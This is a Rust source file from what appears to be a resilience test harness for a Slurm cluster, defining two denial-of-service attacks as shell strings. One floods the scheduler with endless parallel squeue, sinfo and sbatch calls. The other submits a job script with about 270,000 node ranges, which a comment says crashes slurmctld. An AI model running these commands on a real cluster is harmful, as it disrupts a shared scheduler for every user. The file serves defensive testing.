//! Requests with Slurm's own commands, which any user may run.

use super::attack::Attack;
use crate::long::faults::sign::Sign;

pub(super) fn attacks() -> Vec<Attack> {
    let line = "for i in 1 2 3 4; do while :; do squeue; sinfo; sbatch --hold --output=/dev/null --wrap true; done & done; wait";
    // Too many ranges crash slurmctld (docs/security.md).
    let ranges = "{ printf '#!/bin/sh\\n#SBATCH --exclude=n['; yes 1, | head -n 270000 | tr -d '\\n'; printf '1]\\ntrue\\n'; } >/tmp/many; \
                  while :; do timeout 10 sbatch --output=/dev/null /tmp/many; sleep 0.1; done";
    vec![
        Attack::new("questions and jobs without a pause", line, Sign::event("ready")),
        Attack::new(
            "jobs with 270,000 ranges of nodes without a pause",
            ranges,
            Sign::of("slurmctld", "unit-crash-loop"),
        ),
    ]
}
